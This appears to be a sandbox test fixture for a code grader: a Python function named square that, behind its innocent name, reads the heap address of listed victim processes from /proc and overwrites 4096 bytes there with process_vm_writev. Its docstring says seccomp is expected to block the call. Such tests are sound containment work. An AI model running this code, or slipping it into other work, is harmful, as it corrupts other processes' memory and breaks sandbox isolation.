"""Overwrites another process's memory by the call for debuggers.

stopped by: seccomp, which kills
witness: told
control: open
"""

import ctypes
import struct

from grader.sandbox import kernel

NOTHING = ctypes.create_string_buffer(4096)
VICTIMS = "@VICTIMS@"


def square(x):
    for pid in map(int, VICTIMS.split()):
        try:
            with open(f"/proc/{pid}/maps") as maps:
                address = next(int(line.split("-")[0], 16) for line in maps if "[heap]" in line)
        except OSError:
            address = id(x)
        ours = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(NOTHING), 4096))
        theirs = ctypes.create_string_buffer(struct.pack("QQ", address, 4096))
        if kernel.syscall("process_vm_writev", pid, ours, 1, theirs, 1, 0) == 4096:
            raise ValueError("@WORKED@")
    return x
